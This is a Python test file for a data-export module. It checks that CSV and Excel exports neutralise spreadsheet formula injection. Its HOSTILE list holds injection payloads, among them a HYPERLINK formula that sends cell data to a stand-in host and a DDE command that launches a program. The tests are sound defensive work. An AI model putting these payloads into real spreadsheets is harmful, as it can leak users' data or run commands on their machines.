"""Exports never hand a spreadsheet a formula someone typed as a name or a comment."""

import io
import json
import re
import zipfile

import openpyxl
import polars as pl
import pytest

from miara.fileio.formulas import csv_text
from miara.fileio.writing import write_frame, write_frames

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def formula_cells(content: bytes) -> list[str]:
    """Every `<f>` element of every worksheet: what Excel would compute."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(rb"<(?:\w+:)?f[\s>/][^<]*", archive.read(name))
    return found


def assert_text_cells(content: bytes, expected: list[str]) -> None:
    """No formula anywhere; each of `expected` is read back as a string cell, exactly."""
    assert formula_cells(content) == []
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    seen = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    seen[cell.value] = cell.data_type
    for text in expected:
        text = text.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert seen.get(text) == "s", f"{text!r} is not a string cell: {seen.get(text)}"


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_makes_formulas_inert(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-5", "-1.5", "+3", "-1.5e-3", "-inf", "plain", "Łódź", "", None, -5, -1.5, 2]
)
def test_csv_text_leaves_numbers_and_plain_text_alone(value):
    assert csv_text(value) == value


FRAME = pl.DataFrame(
    {
        "unit": ["A1"] * len(HOSTILE),
        "value": [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0],
        "comment": HOSTILE,
    }
)


def test_the_xlsx_export_writes_text_as_string_cells(tmp_path):
    path = write_frame(FRAME, tmp_path / "values.xlsx", "xlsx", sheet="values")
    content = path.read_bytes()
    assert_text_cells(content, HOSTILE)
    sheet = openpyxl.load_workbook(io.BytesIO(content))["values"]
    assert sheet["B2"].value == -5.0 and sheet["B2"].data_type == "n"


def test_the_streamed_xlsx_export_writes_text_as_string_cells(tmp_path):
    path = tmp_path / "results.xlsx"
    write_frames([FRAME.head(3), FRAME.tail(3)], path, "xlsx", schema=dict(FRAME.schema))
    assert_text_cells(path.read_bytes(), HOSTILE)


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_the_data_exports_for_programs_keep_the_exact_text(tmp_path, fmt):
    """`miara export` CSV/JSON are read by programs: an apostrophe would corrupt the data."""
    path = write_frame(FRAME, tmp_path / f"values.{fmt}", fmt)
    if fmt == "csv":
        read = pl.read_csv(path)["comment"].to_list()
    else:
        read = [row["comment"] for row in json.loads(path.read_text())]
    assert read == HOSTILE
